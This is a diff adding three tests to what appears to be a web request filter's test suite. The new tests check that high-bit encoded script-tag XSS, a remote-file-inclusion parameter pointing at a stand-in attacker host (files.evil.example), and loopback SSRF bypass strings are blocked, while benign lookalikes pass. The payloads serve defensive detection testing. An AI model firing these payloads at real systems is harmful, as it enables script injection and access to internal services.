@@ -126,6 +126,12 @@ class XSSTests(ClassCase):
         encoded = base64.b64encode(b"<script>alert(1)</script>").decode()
         self.blocked(header("X-Data", encoded), "xss")
 
+    def test_high_bit_markup(self) -> None:
+        """Markup with the high bit set (\\xbcscript\\xbe), which 7-bit decoders read as <script>."""
+        self.blocked(query("\\xbcscript\\xbealert(1)\\xbc/script\\xbe"), "xss")
+        self.blocked(query("\u00bcscript\u00bealert(1)\u00bc/script\u00be"), "xss")
+        self.passes(query("Add \u00bc cup of sugar and \u00be cup of flour"))
+
     def test_lookalikes(self) -> None:
         """Rich-text HTML, JSX, markdown, prose about JavaScript."""
         self.passes(form(content='<p>Read the <a href="https://example.org/docs">docs</a> &amp; '
@@ -185,6 +191,12 @@ class RemoteInclusionTests(ClassCase):
         """Redirect and link parameters with ordinary URLs."""
         self.passes(Request(b"GET", b"/login?next=https%3A%2F%2Fshop.test%2Fcart&ref=https://t.co/x",
                             BROWSER))
+
+    def test_indexed_include_names(self) -> None:
+        """An include-style parameter with an index given a URL (_CONF[path]=https://...)."""
+        self.blocked(Request(b"GET", b"/plugins/x.php?_CONF[path]=https://files.evil.example/",
+                             BROWSER), "rfi")
+        self.passes(Request(b"GET", b"/map?path=%2Fdocs%2Fintro&layout=wide", BROWSER))
 
     def test_fragment_urls(self) -> None:
         """A JSON Schema URI and a link that end in # are not cut-off includes."""
@@ -338,6 +350,12 @@ class RequestForgeryTests(ClassCase):
                       "http://3232235521/admin", "http://0xc0.0xa8.0.1/", "http://0300.0250.0.1/",
                       "http://10.65537/"):
             self.blocked(query(value), "ssrf")
+
+    def test_ssrf_loopback_names(self) -> None:
+        """Names that resolve to loopback without a scheme, a scheme without slashes."""
+        for value in ("lvh.me/", "app.localtest.me:8080/admin", "http:127.0.0.1", "https:[::1]/"):
+            self.blocked(query(value), "ssrf")
+        self.passes(query("http://example.com/lvh.me/guide"))
 
     def test_ssrf_lookalikes(self) -> None:
         """Host names with digits, numbers in paths."""
